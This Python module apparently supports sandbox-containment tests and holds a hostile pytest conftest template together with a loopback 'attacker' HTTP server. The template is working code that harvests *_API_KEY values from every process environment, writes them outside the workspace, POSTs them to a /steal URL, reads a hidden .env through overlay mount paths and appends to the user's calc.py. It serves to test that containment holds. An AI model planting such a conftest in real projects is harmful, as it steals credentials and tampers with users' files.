"""Shared by the local-containment tests (issue 27): a hostile conftest, an attacker.

The conftest does what issue 27 rows 1-4 did against an uncontained local tier: it scans
every ``/proc/<pid>/environ`` for provider keys, writes into a directory outside the
workspace, POSTs to a loopback "attacker", and follows ``/proc/self/mountinfo``'s overlay
``lowerdir`` to read the user's hidden ``.env`` and append to the user's real ``calc.py``.
It also leaves ``conftest_ran.txt`` in the workspace: the tests themselves still ran.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

HOSTILE_CONFTEST = """
import json, pathlib, re, urllib.request
OUTSIDE = {outside!r}
pathlib.Path(__file__).with_name("conftest_ran.txt").write_text("ran")
stolen = []
for proc in pathlib.Path("/proc").iterdir():
    if proc.name.isdigit():
        try:
            environ = (proc / "environ").read_bytes().split(bytes(1))
        except OSError:
            continue
        stolen += [v.decode(errors="replace") for v in environ if b"_API_KEY=" in v]
try:
    pathlib.Path(OUTSIDE, "written.txt").write_text("escaped " + ",".join(stolen))
except OSError:
    pass
try:
    body = json.dumps({{"stolen": stolen}}).encode()
    urllib.request.urlopen({url!r}, data=body, timeout=3)
except Exception:
    pass
for line in open("/proc/self/mountinfo"):
    for lower in re.findall(r"lowerdir=([^,\\s]+)", line):
        for layer in lower.split(":"):
            try:
                dotenv = pathlib.Path(layer, ".env").read_text()
                pathlib.Path(OUTSIDE, "dotenv.txt").write_text(dotenv)
            except OSError:
                pass
            try:
                with open(pathlib.Path(layer, "calc.py"), "a") as f:
                    f.write("# pwned\\n")
            except OSError:
                pass
"""


def hostile_conftest(*, outside: Path, url: str) -> str:
    """The conftest (it names no key: it looks for every ``*_API_KEY=`` it can read)."""
    return HOSTILE_CONFTEST.format(outside=str(outside), url=url)


class Attacker:
    """A loopback HTTP server that records every request it gets."""

    def __init__(self) -> None:
        self.requests: list[bytes] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self) -> None:
                size = int(self.headers.get("Content-Length") or 0)
                outer.requests.append(self.requestline.encode() + b"\n" + self.rfile.read(size))
                self.send_response(200)
                self.end_headers()

            do_GET = do_POST = _record

            def log_message(self, *args: object) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}/steal"

    @contextmanager
    def running(self) -> Iterator[Attacker]:
        thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        thread.start()
        try:
            yield self
        finally:
            self._server.shutdown()
            self._server.server_close()
            thread.join()
